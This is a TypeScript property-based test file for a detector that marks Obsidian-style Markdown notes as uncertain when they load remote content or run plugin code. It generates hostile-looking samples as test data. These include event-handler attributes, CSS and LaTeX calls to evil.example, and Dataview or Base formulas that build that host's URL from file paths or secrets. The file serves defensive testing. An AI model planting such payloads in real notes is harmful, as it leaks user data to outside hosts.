import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { cases } from '#tests/cases';
import {
  address,
  addedParts,
  everyVariantIsUncertain,
  partsOf,
  place,
  placed,
} from './uncertain-variants';

/** Blanks in front of a target, from none to more than any window. */
const blanks = fc.oneof(
  fc.constantFrom('', ' ', '\n', '\t'),
  fc
    .record({ sign: fc.constantFrom(' ', '\t'), count: fc.integer({ min: 1, max: 9_000 }) })
    .map(({ sign, count }) => sign.repeat(count)),
);

/** Longer than any window in which a check could look. */
const filler = fc
  .record({
    word: fc.constantFrom('a', 'ä ', 'x-', '0 '),
    count: fc.integer({ min: 0, max: 6_000 }),
  })
  .map(({ word, count }) => word.repeat(count));

/** Where words may be in a line. */
const inline = fc.constantFrom(
  (text: string) => `\`code\` ${text}`,
  (text: string) => `Words ${text} words \`code\`.`,
  (text: string) => `| a | b |\n| --- | --- |\n| ${text.replaceAll('\n', ' ')} | \`c\` |`,
  (text: string) => `**${text.replaceAll('\n', ' ')}**`,
);

const placedInLine = (variant: fc.Arbitrary<string>) =>
  fc
    .record({ text: variant, put: place, within: fc.option(inline, { freq: 3 }) })
    .map(({ text, put, within }) => put(within ? within(text) : text));

describe('every spelling of text that runs or loads is uncertain', () => {
  test('an image from elsewhere is uncertain however many blanks are in front of its target', () => {
    const alt = fc.constantFrom('', 'x', 'a [b] c', '`x`', 'a\\]', '**a**', '[x](y.png)');
    const title = fc.constantFrom('', ' "title"', " 'a (b)'", ' (c)');
    const image = fc
      .record({ alt, blanks, address, title })
      .map((each) => `![${each.alt}](${each.blanks}${each.address}${each.title})`);
    everyVariantIsUncertain(placedInLine(image));
  });

  test('an image by reference is uncertain wherever its definition is', () => {
    const label = fc.constantFrom('ref', 'a b', 'A\\]b', 'ß');
    const image = fc
      .record({ label, address, blanks: fc.constantFrom('', ' ', '\n', '   ') })
      .chain((each) =>
        fc.constantFrom(
          `![x][${each.label}]\n\n[${each.label}]:${each.blanks}${each.address}`,
          `![${each.label}]\n\n[${each.label}]:${each.blanks}<${each.address}>`,
          `[${each.label}]:${each.blanks}${each.address} "title"\n\n![${each.label}][]`,
          `![a [b] c][${each.label}]\n\n> [${each.label}]:${each.blanks}${each.address}`,
        ),
      );
    everyVariantIsUncertain(image);
  });

  test('an element that loads is uncertain with attributes in any order, quotes and length', () => {
    const loading = fc.oneof(
      fc
        .record({
          name: fc.constantFrom(
            'img',
            'video',
            'audio',
            'source',
            'IMG',
            'embed',
            'input',
            'track',
          ),
          attribute: fc.constantFrom('src', 'SRC', 'srcset', 'poster'),
          address: address.filter((each) => !/[\\&]/.test(each)),
        })
        .map(({ name, attribute, address: to }) => ({ name, written: `${attribute}=`, value: to })),
      fc.constantFrom(
        { name: 'div', written: 'style=', value: 'background:url(//evil.example/x)' },
        {
          name: 'p',
          written: 'STYLE = ',
          value: 'color:red;list-style-image:u\\72l(//evil.example)',
        },
        { name: 'b', written: 'onclick=', value: 'alert(1)' },
        { name: 'x-a', written: 'onmouseover\n=\n', value: 'alert(1)' },
        { name: 'image', written: 'xlink:href=', value: 'https://evil.example/x' },
        { name: 'a', written: 'href=', value: 'obsidian://open?vault=x' },
      ),
    );
    const others = fc.array(
      fc.record({
        name: fc.constantFrom('alt', 'title', 'class', 'data-x', 'width', 'unheard'),
        value: filler.map((each) => each.replaceAll('"', '')),
        quote: fc.constantFrom('"', "'"),
      }),
      { maxLength: 3 },
    );
    const element = fc
      .record({
        loading,
        before: others,
        after: others,
        quote: fc.constantFrom('"', "'", ''),
        gap: fc.constantFrom(' ', '\n', '\t', '/', '  '),
        end: fc.constantFrom('>', '/>', ' >'),
      })
      .map(({ loading: { name, written, value }, before, after, quote, gap, end }) => {
        const own = quote === '' && /\s/.test(value) ? '"' : quote;
        const all = [
          ...before.map((each) => `${each.name}=${each.quote}${each.value}${each.quote}`),
          `${written}${own}${value}${own}`,
          ...after.map((each) => `${each.name}=${each.quote}${each.value}${each.quote}`),
        ];
        return `<${name}${gap}${all.join(' ')}${own === '' ? ' ' : ''}${end}`;
      });
    everyVariantIsUncertain(placedInLine(element));
  });

  test('a formula that reaches out is uncertain', () => {
    const command = fc.constantFrom(
      '\\mmlToken{mi}[style="background:url(https://evil.example/x)"]{x}',
      '\\bbox[background:url(https://evil.example/x)]{x}',
      '\\style{background:url(//evil.example)}{x}',
      '\\href{https://evil.example}{x}',
      '\\unicode[https://evil.example/f.woff]{x41}',
      '\\class{mod-cta}{x}',
      '\\cssId{app}{x}',
      '\\require{html}',
      '\\includegraphics{https://evil.example/x.png}',
      '\\def\\x{\\href}\\x{https://evil.example}{y}',
      '\\let\\x\\mmlToken \\x{mi}[href=x]{y}',
      '\\csname href\\endcsname{https://evil.example}{x}',
    );
    const math = fc
      .record({ command, filler })
      .chain(({ command: each, filler: more }) =>
        fc.constantFrom(
          `$${each}$`,
          `$$\n${each}\n$$`,
          `$\\frac{1}{2} + ${more.trim()}x ${each}$`,
          `$$\\begin{aligned} a &= b \\\\ ${each} \\end{aligned}$$`,
          `Words $x$ and $\\text{a}${each}$.`,
          `$$\n\n\`${each}\`\n\n$$`,
          `$$\n\`\`\`js\n${each}\n\`\`\`\n$$`,
          `Costs $5 and $\`$ $${each}$ $\`$`,
        ),
      );
    everyVariantIsUncertain(placed(math));
  });

  const running = fc.constantFrom(
    'dataviewjs',
    'DataviewJS',
    'js-engine',
    'run-python',
    'datacorejsx',
    'button',
    'leaflet',
    'query-x',
    '{python}',
    'templater',
    'tracker',
    'charts',
    'meta-bind-button',
    'widgets',
  );

  test('a block that plugins may execute is uncertain in any list, task, quote or callout', () => {
    const fence = fc
      .record({
        language: running,
        marks: fc.constantFrom('```', '````', '~~~', '~~~~~'),
        gap: fc.constantFrom('', ' ', '  '),
        isClosed: fc.boolean(),
      })
      .map(
        ({ language, marks, gap, isClosed }) =>
          `${marks}${gap}${language}\nx\n${isClosed ? marks : ''}`,
      );
    everyVariantIsUncertain(placed(fence));
  });

  /** Expressions that put an address together. */
  const joined = fc
    .record({
      parts: fc.shuffledSubarray(['"https:/"', '"/evil.example"', '"?q="', '"x"'], {
        minLength: 2,
      }),
      name: fc.constantFrom('file.name', 'this.secret', 'note.title', 'file.path'),
      form: fc.constantFrom('plus', 'join', 'replace', 'picture'),
    })
    .map(({ parts, name, form }) => {
      if (form === 'plus') return [...parts, name].join(' + ');
      if (form === 'join') return `join(list(${[...parts, name].join(', ')}), "")`;
      if (form === 'replace') return `replace("X", "X", ${name}) + ${parts.join('+')}`;
      return `image (${parts.join(' + ')})`;
    });

  test('a base is uncertain whose formula puts an address together or makes a picture', () => {
    const encoded = (text: string) =>
      Array.from(text, (sign, at) =>
        at % 3 === 0 ? `\\x${sign.charCodeAt(0).toString(16).padStart(2, '0')}` : sign,
      ).join('');
    const base = fc
      .record({ formula: joined, form: fc.nat(6), view: fc.constantFrom('cards', 'table') })
      .map(({ formula, form, view }) => {
        const views = `views:\n  - type: ${view}\n    name: All\n    image: formula.pic\n`;
        const forms = [
          `formulas:\n  pic: '${formula}'\n`,
          `formulas:\n  pic: "${encoded(formula)}"\n${views}`,
          `formulas:\n  pic: >-\n    ${formula}\n`,
          `formulas: {pic: '${formula}'}\n`,
          `formulas:\n  "p\\x69c": |\n    ${formula}\n`,
          `formulas:\n  a: &x '${formula}'\n  pic: *x\n`,
          `filters:\n  and:\n    - '${formula} == 1'\n`,
        ];
        return forms[form] ?? '';
      });
    everyVariantIsUncertain(base, 'All.base');
    everyVariantIsUncertain(placed(base.map((each) => `\`\`\`base\n${each}\`\`\``)));
  });

  test('a query of Dataview is uncertain that puts text together, in a block and in a line', () => {
    const query = joined.chain((expression) =>
      fc.constantFrom(
        `\`\`\`dataview\nTABLE WITHOUT ID ${expression}\n\`\`\``,
        `\`\`\`dataview\nLIST ${expression} FROM "Notes"\nWHERE rating > 3\n\`\`\``,
        `See \`= ${expression}\` here.`,
        `See \`=${expression}\` here.`,
        `See \`\` = ${expression} \`\` here.`,
        `<code>= ${expression}</code>`,
        `See \`$= dv.span(${expression})\`.`,
        `\`\`\`\n$= dv.span(${expression})\n\`\`\``,
        `<code>&#36;= ${expression}</code>`,
      ),
    );
    everyVariantIsUncertain(placed(query));
  });

  test('a property that a picture is loaded from is uncertain however its YAML is written', () => {
    const plain = address.filter((each) => !/[\\&]/.test(each));
    const property = fc
      .record({
        name: fc.constantFrom('banner', 'cover', 'Image', 'thumbnail', 'coverUrl', 'header_image'),
        address: plain,
        form: fc.nat(9),
        step: fc.integer({ min: 1, max: 4 }),
      })
      .map(({ name, address: to, form, step }) => {
        const escaped = (text: string) =>
          Array.from(text, (sign, at) => {
            const code = sign.charCodeAt(0).toString(16);
            if (at % step !== 0) return sign;
            return at % 2 === 0 ? `\\x${code.padStart(2, '0')}` : `\\u${code.padStart(4, '0')}`;
          }).join('');
        const forms = [
          `${name}: "${escaped(to)}"`,
          `"${escaped(name)}": "${to}"`,
          `${name}: '${to}'`,
          `${name}:\n  - ${to}`,
          `${name}: >-\n  ${to}`,
          `style:\n  ${name}:\n    src: "${escaped(to)}"`,
          `{title: A, ${name}: "${to}"}`,
          `other: &x ${to}\n${name}: *x`,
          `${name}: "${to.slice(0, 5)}\\\n  ${to.slice(5)}"`,
          `? ${name}\n: ${to}`,
        ];
        return `---\ntitle: A\n${forms[form] ?? ''}\n---\nText.\n`.replace('title: A\n{', '{');
      });
    everyVariantIsUncertain(property);
  });

  test('a picture that Excalidraw embeds is uncertain', () => {
    const drawing = fc
      .record({
        id: fc.stringMatching(/^[\da-f]{8,40}$/),
        address: address.filter((each) => !each.includes('&')),
      })
      .map(
        ({ id, address: to }) =>
          `---\nexcalidraw-plugin: parsed\n---\n\n## Embedded Files\n${id}: ${to}\n`,
      );
    everyVariantIsUncertain(drawing);
  });
});

describe('ordinary notes are certain', () => {
  /** Text about what runs or loads. */
  const about = fc.constantFrom(
    '<img src="https://example.org/x.png">',
    '<iframe src="https://example.org"></iframe>',
    '<script>alert(1)</script>',
    '![x](https://example.org/x.png)',
    '<a href="javascript:alert(1)" onclick="x()">',
    '\\href{https://example.org}{x}',
    'obsidian://open?vault=x',
    '<div style="background: url(x.png)">',
  );
  const shown = about.chain((text) =>
    fc.constantFrom(
      `\`\`\`html\n${text}\n\`\`\``,
      `~~~\n${text}\n~~~`,
      `\`\`\`\`md\n\`\`\`dataviewjs\n${text}\n\`\`\`\n\`\`\`\``,
      `> \`\`\`js\n> ${text}\n> \`\`\``,
      `- item\n\n  \`\`\`xml\n  ${text}\n  \`\`\`\n- item`,
    ),
  );
  const plain = fc.constantFrom(
    '![photo](Media/photo%20one.png "A title: here")',
    '![[photo.png|100]] ![[Note#Part: two]]',
    'With $\\frac{a}{b}$ and\n$$\n\\begin{aligned} x &= y \\\\ z \\end{aligned}\n$$',
    'Costs $5 or 5 < 6 and a < b.',
    '[a site](https://example.org/?a=1&b=2 "title") and https://example.org/x.png',
    '> [!tip]- Title\n> - [ ] task [[link|words]] #tag ^id',
    '<details><summary>More</summary>\n\nText.\n\n</details>',
    '[^1]: See [the book](https://example.org).',
    'Write `<img src="https://example.org/x.png">` here.',
    '> [!note] Title\n> `![x](https://example.org/x.png)`',
    '1. `<a onclick="x()">`',
    '| a | b |\n| --- | --- |\n| `obsidian://open?vault=x` | x |',
    'One<br>two, H<sub>2</sub>O and <https://example.org>.',
  );

  test('text in code, formulas, and pictures of the vault are certain, in any combination', () => {
    const front = fc.constantFrom(
      '',
      '---\ntitle: "A: title"\ntags: [a, b]\nsource: https://example.org/page\ncover: Media/photo.png\n---\n',
      "---\naliases:\n  - Its\nurl: 'https://example.org'\ndate: 2024-01-01\n---\n",
    );
    const seen = new Set<string>();
    fc.assert(
      fc.property(
        front,
        fc.array(fc.oneof(shown, plain), { minLength: 1, maxLength: 6 }),
        (head, parts) => {
          const text = `${head}${parts.join('\n\nWords.\n\n')}\n`;
          seen.add(text);
          expect(partsOf('Note.md', text)).toEqual([]);
        },
      ),
      cases,
    );
    expect(seen.size).toBeGreaterThanOrEqual(40);
  });
});

describe('text that cannot be checked', () => {
  test.each([
    ['a note of more than a million characters', `${'Words. '.repeat(150_000)}`],
    ['unclosed fences without end', '```x\n  '.repeat(20_000)],
    ['elements within each other', `${'<script '.repeat(20_000)}`],
  ])('%s is uncertain', (_, text) => {
    expect(addedParts('Note.md', 'Words.\n', text)).not.toEqual([]);
    expect(addedParts('Note.md', text, text)).toEqual([]);
  });
});
